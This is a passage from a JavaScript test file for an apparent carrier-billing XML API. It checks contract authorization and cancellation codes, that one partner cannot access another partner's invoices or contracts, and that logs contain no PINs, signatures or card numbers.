    expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('0');
    expect(await codeOf('CreateCustomerContract', body)).toBe('231');
    expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('233');
    expect(dataOfXml(await call('CancelCustomerContract', `<ContractID>${id}</ContractID>`), 'CancelCustomerContract')).toEqual({ ContractID: id, Status: 'cancelled' });
    expect(await codeOf('CancelCustomerContract', `<ContractID>${id}</ContractID>`)).toBe('232');
    expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('232');
  });

  it('an unsupported number: IsSupported false', async () => {
    const a = await call('CheckCustomerBillingSupport', phone('4915112345678'));
    expect(dataOfXml(a, 'CheckCustomerBillingSupport')['IsSupported']).toBe('false');
  });
});

describe('tenant isolation over XML', () => {
  it("another partner's project sees none of this partner's invoices or contracts, and cannot change them", async () => {
    const c = await activeContract();
    const created = await call(
      'CreateInvoice',
      `<MerchantOrderID>${c.orderId}</MerchantOrderID>${phone(c.msisdn)}<Contract><MerchantContractID>${c.mcid}</MerchantContractID></Contract><ClientIP>${ip}</ClientIP>`,
    );
    const id = String(dataOfXml(created, 'CreateInvoice')['InvoiceID']);
    const as = { login: OTHER.login, password: OTHER.password, projectId: P.other };
    expect(await codeOf('GetInvoice', `<InvoiceID>${id}</InvoiceID>`, as)).toBe('201');
    expect(await codeOf('GetInvoiceByMerchantOrderId', `<MerchantOrderID>${c.orderId}</MerchantOrderID>`, as)).toBe('201');
    expect(await codeOf('CancelInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`, as)).toBe('201');
    expect(await codeOf('RefundInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`, as)).toBe('201');
    expect(await codeOf('CancelCustomerContract', `<ContractID>${c.contractId}</ContractID>`, as)).toBe('232');
    // Nor through this partner's other project.
    expect(await codeOf('GetInvoice', `<InvoiceID>${id}</InvoiceID>`, { projectId: P.noIp })).toBe('201');
    // Its own project still sees the invoice, and the contract is still active.
    expect(await codeOf('GetInvoice', `<InvoiceID>${id}</InvoiceID>`)).toBe('0');
    expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${c.contractId}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('233');
  });
});

describe('the log', () => {
  it('holds none of the signatures, PINs and card numbers sent in this file', () => {
    const logs = t.logs.join('\n');
    // A signature depends on the login and the second it was made in: a few distinct ones, and the card numbers.
    expect(secretsSent.size).toBeGreaterThan(5);
    for (const secret of secretsSent) expect(logs).not.toContain(secret);
    expect(logs).not.toMatch(/PinCode|"pin(_?code)?"\s*:\s*"[0-9]/i);
  });
});
